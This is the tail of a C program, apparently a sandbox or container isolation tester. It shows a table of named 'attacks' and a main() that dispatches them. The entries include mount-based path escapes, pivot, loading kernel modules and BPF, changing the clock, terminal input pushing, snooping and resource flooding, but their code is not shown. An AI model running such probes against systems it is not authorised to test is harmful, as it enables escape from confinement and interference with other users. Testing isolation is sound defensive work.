	{ "move", move_old, 2, "FROM TO" },
	{ "umount-flags", un_mount_flags, 2, "PATH FLAGS" },
	{ "move-mount", move_new, 2, "FROM TO" },
	{ "bind", do_bind, 2, "FROM TO" },
	{ "rbind", do_rbind, 2, "FROM TO" },
	{ "covered", covered, 1, "FILE" },
	{ "reach", reach_path, 1, "FILE" },
	{ "reach-by-clone", reach_by_clone, 2, "DIR FILE" },
	{ "reach-by-bind", reach_by_bind, 3, "DIR FILE TARGET" },
	{ "reach-by-rbind", reach_by_rbind, 3, "DIR FILE TARGET" },
	{ "reach-by-old-fd", reach_by_old_fd, 2, "DIR FILE" },
	{ "reach-by-mount", reach_by_mount, 3, "TYPE FILE TARGET" },
	{ "reach-by-fsmount", reach_by_fsmount, 2, "TYPE FILE" },
	{ "unlink", unlink_path, 1, "PATH" },
	{ "write-same", write_same, 1, "FILE" },
	{ "overlay", overlay, 2, "LOWER TARGET" },
	{ "overlay-rw", overlay_rw, 4, "LOWER UPPER WORK TARGET" },
	{ "mount", mount_type, 3, "TYPE TARGET OPTIONS|-" },
	{ "remount-own", remount_own, 1, "DIR" },
	{ "pivot", pivot, 1, "DIR" },
	{ "open-by-handle", open_by_handle, 1, "DIR" },
	{ "node-unmapped", node_unmapped, 1, "PATH" },
	{ "find-namespace", find_namespace, 3, "NAMESPACE FILE SECONDS" },
	{ "can-idmap", can_idmap, 1, "DIR" },
	{ "device", device, 4, "PATH b|c MAJOR MINOR" },
	{ "open", open_path, 1, "PATH" },
	{ "loop-free", loop_free, 1, "LOOP-CONTROL" },
	{ "load-module", load_module, 0, "" },
	{ "unload-module", unload_module, 1, "NAME" },
	{ "set-clock", set_clock, 0, "" },
	{ "adjust-clock", adjust_clock, 0, "" },
	{ "bpf-next-id", bpf_next_id, 0, "" },
	{ "bpf-load", bpf_load, 0, "" },
	{ "iopl", io_privilege, 0, "" },
	{ "sethostname", set_hostname, 1, "NAME" },
	{ "raise-limit", raise_limit, 0, "" },
	{ "fds", show_fds, 0, "" },
	{ "inherited", show_inherited, 0, "" },
	{ "key-search", key_search, 1, "NAME" },
	{ "stop-all", stop_all, 1, "MILLISECONDS" },
	{ "key-fill", key_fill, 1, "PREFIX" },
	{ "with-key", with_key, 2, "NAME PROGRAM ARG..." },
	{ "spoiled", spoiled, 1, "PROGRAM ARG..." },
	{ "seize-all", seize_all, 1, "MILLISECONDS" },
	{ "push-tty", push_tty, 1, "TEXT [own]" },
	{ "leave-flood", leave_flood, 0, "" },
	{ "snoop", snoop, 1, "MILLISECONDS" },
	{ "overwrite-runtime", overwrite_runtime, 1, "MILLISECONDS" },
	{ "swap", swap_forever, 3, "A B STOP" },
	{ "find-through-fds", find_through_fds, 1, "FILE" },
	{ "kernel", show_kernel, 0, "" },
	{ "clock", show_clock, 1, "realtime|monotonic|boottime" },
	{ "ping", ping, 1, "ADDRESS" },
	{ "connect-abstract", connect_abstract, 1, "NAME" },
	{ "connect", connect_path, 1, "SOCKET" },
	{ "die-by", die_by, 1, "SIGNAL" },
	{ "hold-memory", hold_memory, 1, "MIB" },
};

int main(int argc, char **argv)
{
	for (size_t i = 0; argc > 1 && i < sizeof(attacks) / sizeof(*attacks); i++) {
		int r;

		if (strcmp(argv[1], attacks[i].name) != 0 || argc - 2 < attacks[i].n_args)
			continue;
		r = attacks[i].run(argv + 2);
		if (r < 0)
			fprintf(stderr, "%s\n", strerrorname_np(-r));
		return r < 0;
	}
	for (size_t i = 0; i < sizeof(attacks) / sizeof(*attacks); i++)
		fprintf(stderr, "attack %s %s\n", attacks[i].name, attacks[i].args);
	return 2;
}
